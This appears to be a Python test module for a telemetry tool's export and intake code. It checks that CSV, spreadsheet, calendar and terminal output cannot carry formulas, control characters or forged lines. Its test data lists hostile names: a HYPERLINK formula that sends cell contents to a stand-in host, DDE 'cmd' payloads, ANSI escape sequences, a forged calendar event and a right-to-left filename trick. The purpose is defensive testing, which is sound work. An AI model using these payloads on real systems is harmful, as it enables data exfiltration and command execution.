"""What leaves in an export runs nowhere and steers nothing: hostile names through every writer, and through intake."""

from __future__ import annotations

import asyncio
import csv
import io
import unicodedata
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

from hookline.cli.output import render as render_rows
from hookline.contract import semconv
from hookline.contract.scopes import AGENT_SCOPE, CLAUDE_NATIVE_SCOPE_PREFIX, HISTORY_SCOPE
from hookline.settings.schema import CaptureSettings, LimitSettings
from hookline.system.plain import csv_cell, one_line
from hookline_collector.api.query import to_csv
from hookline_collector.ingest import Ingest
from hookline_collector.observe.metrics import Metrics as Counters
from hookline_collector.serving.memory import HeavyWork
from hookline_collector.signal import Signal
from hookline_collector.store.rows import Rows
from hookline_collector.work.blocks import Block
from hookline_collector.work.period import between
from hookline_collector.work.rendering import render
from hookline_collector.work.report import WorkReport, WorkTotals
from hookline_collector.work.request import ReportRequest
from support.cases import with_each
from support.receiving.front import MemoryJournal

T, H = 1_790_002_800_000_000_000, 3_600_000_000_000
NAMES = (
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A1",
    "-2+3+cmd|' /C calc'!A1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b31mred\x9d0;owned\x9c",
    "shop\ninc 20260101T000000Z - 20260102T000000Z # forged",
    "shop\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "shop\x85next\u2028line\u2029paragraph",
    "\u202egnp.exe",
    "a\x00b\x7fc",
)


def report_of(name: str) -> WorkReport:
    """Return a report in which everything that somebody else may choose has this name."""
    block = Block(name, "2026-09-21", T, T + H, 3500, 600, 3200, 3000, (name,), (name,), (name,), (name,), (name,))
    figures = WorkTotals(name, human_s=600, agent_s=3200, wall_s=3500, prompts=2)
    return WorkReport(ReportRequest(timezone="UTC"), between(T - H, T + 2 * H, ZoneInfo("UTC")), figures, (figures,), (), (), (block,))


def is_control(char: str) -> bool:
    """Whether a character steers a terminal, breaks a line or turns the direction of writing."""
    return unicodedata.category(char) in ("Cc", "Zl", "Zp") or char in "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@with_each("name", NAMES)
@with_each("form", ["table", "csv", "sheet", "ics", "timewarrior"])
def test_no_name_brings_a_control_character_into_an_export(form: str, name: str) -> None:
    """Beside the ends of the lines that the format itself makes."""
    hostile, harmless = render(report_of(name), form), render(report_of("shop"), form)
    assert {char for char in hostile if is_control(char)} <= {"\r", "\n"}
    if form != "ics":  # where a longer text is folded into more lines
        assert len(hostile.splitlines()) == len(harmless.splitlines())
    assert sum(line.startswith("BEGIN:VEVENT") for line in hostile.splitlines()) == (1 if form == "ics" else 0)


@with_each("name", NAMES)
@with_each("form", ["csv", "sheet"])
def test_no_cell_of_a_report_is_a_formula(form: str, name: str) -> None:
    """Neither in a column of one name nor where names are put together."""
    assert not formulas(render(report_of(name), form))


@with_each("name", NAMES)
def test_no_cell_of_a_query_is_a_formula(name: str) -> None:
    """From the API and from the command."""
    rows = Rows((name, "n"), ("String", "Int64"), ((name, -5),))
    assert not formulas(to_csv(rows))
    assert not formulas(render_rows([{"a": name, "n": -5}], ["a", "n"], "csv"))


def formulas(text: str) -> list[str]:
    """Return the cells that a spreadsheet would work out; numbers below zero are none."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d") and cell != "-5"]


def test_numbers_and_plain_names_stay_as_they_are() -> None:
    """Also numbers below zero that come as text, a lone dash, and names of every script."""
    for value in (-5, 1.5, None, "shop", "-5", "+1.5e-3", "-", "a=b", "Größe", "仕事", "a\u00a0b", "👩‍💻"):
        assert csv_cell(value) == value
    for name in ("shop", "fix/a-b", "Größe", "仕事", "a\u00a0b", "👩‍💻", "עברית"):
        assert one_line(name) == name


@given(st.text())
def test_a_name_on_one_line_is_safe_and_stays_so(text: str) -> None:
    """Whatever it was; done twice it is the same."""
    name = one_line(text)
    assert not any(map(is_control, name))
    assert one_line(name) == name


@given(st.text())
def test_a_cell_is_never_a_formula(text: str) -> None:
    """Of any text, with lines and tabs in it or not."""
    cell = csv_cell(text)
    assert not any(is_control(char) for char in cell if char not in "\n\t")
    assert cell.lstrip()[:1] not in tuple("=@")


HOSTILE = "shop\x1b[2J\n=1"


def spans_of(scope: str) -> ExportTraceServiceRequest:
    """Return a request whose resource and span bring a hostile project, and a captured text with lines."""
    request = ExportTraceServiceRequest()
    part = request.resource_spans.add()
    part.resource.attributes.add(key="host.name").value.string_value = HOSTILE
    spans = part.scope_spans.add()
    spans.scope.name = scope
    span = spans.spans.add(trace_id=b"t" * 16, span_id=b"s" * 8, name="x", start_time_unix_nano=T, end_time_unix_nano=T)
    for key in (semconv.PROJECT_NAME, semconv.VCS_HEAD_NAME, semconv.TOOL_NAME, semconv.TOOL_RESULT):
        span.attributes.add(key=key).value.string_value = HOSTILE
    return request


def logs_of(scope: str) -> ExportLogsServiceRequest:
    """Return the same as a log record."""
    request = ExportLogsServiceRequest()
    part = request.resource_logs.add()
    part.resource.attributes.add(key="host.name").value.string_value = HOSTILE
    logs = part.scope_logs.add()
    logs.scope.name = scope
    record = logs.log_records.add(time_unix_nano=T)
    for key in (semconv.PROJECT_NAME, semconv.VCS_HEAD_NAME, semconv.TOOL_NAME, semconv.TOOL_RESULT):
        record.attributes.add(key=key).value.string_value = HOSTILE
    return request


def journaled(signal: Signal, request: Any) -> dict[str, str]:
    """Take a request in and return what the journal has: attribute to text, the resource's among them."""
    journal = MemoryJournal(Counters())
    asyncio.run(Ingest(LimitSettings(), journal, Counters(), HeavyWork(), CaptureSettings(level="full")).accept(signal, request.SerializeToString()))
    (message,) = journal.messages(signal)
    resource = message.resource_spans[0] if signal is Signal.TRACES else message.resource_logs[0]
    item = resource.scope_spans[0].spans[0] if signal is Signal.TRACES else resource.scope_logs[0].log_records[0]
    return {attribute.key: attribute.value.string_value for attribute in [*resource.resource.attributes, *item.attributes]}


@pytest.mark.parametrize("scope", [AGENT_SCOPE, HISTORY_SCOPE, f"{CLAUDE_NATIVE_SCOPE_PREFIX}.events"])
@pytest.mark.parametrize(("signal", "make"), [(Signal.TRACES, spans_of), (Signal.LOGS, logs_of)])
def test_agents_names_are_cleaned_at_intake_whoever_sent_them(scope: str, signal: Signal, make: Any) -> None:
    """Labels hold no control characters from the journal on; a captured text keeps its lines and colours."""
    found = journaled(signal, make(scope))
    assert found.pop(semconv.TOOL_RESULT) == HOSTILE
    assert set(found.values()) == {"shop [2J =1"}


def test_other_telemetry_is_taken_as_it_is() -> None:
    """What no agent sent is nobody's label here."""
    assert set(journaled(Signal.TRACES, spans_of("shop.web")).values()) == {HOSTILE}


def test_a_clean_request_is_not_serialised_anew() -> None:
    """The journal has the bytes as they came."""
    request = spans_of(AGENT_SCOPE)
    for attribute in [*request.resource_spans[0].resource.attributes, *request.resource_spans[0].scope_spans[0].spans[0].attributes]:
        attribute.value.string_value = "shop"
    body = b"".join((request.SerializeToString(),))
    journal = MemoryJournal(Counters())
    asyncio.run(Ingest(LimitSettings(), journal, Counters(), HeavyWork()).accept(Signal.TRACES, body))
    assert journal.appended[0][1] == body
